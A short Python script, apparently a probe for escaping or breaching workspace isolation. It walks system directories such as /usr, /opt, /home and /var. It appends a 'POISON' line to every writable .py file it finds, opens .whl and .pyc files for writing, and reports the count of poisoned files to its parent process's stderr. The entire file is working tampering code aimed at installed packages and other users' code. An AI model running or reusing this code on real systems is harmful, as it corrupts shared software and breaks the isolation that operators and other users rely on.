"""Appends to every module and every archive it can write to, wherever that is."""
import os

MARK = "\nPOISON = 'of another workspace'\n"


def attack():
    written = 0
    for top in ("/mnt", "/usr", "/opt", "/app", "/tmp", "/run", "/var", "/home"):
        for folder, _, names in os.walk(top):
            for name in names:
                if not name.endswith((".py", ".whl", ".pyc")) or "evil" in folder:
                    continue
                try:
                    with open(os.path.join(folder, name), "a") as file:
                        file.write(MARK if name.endswith(".py") else "")
                    written += name.endswith(".py")
                except OSError:
                    continue
    with open("/proc/%d/fd/2" % os.getppid(), "w") as out:
        out.write("poisoned %d\n" % written)
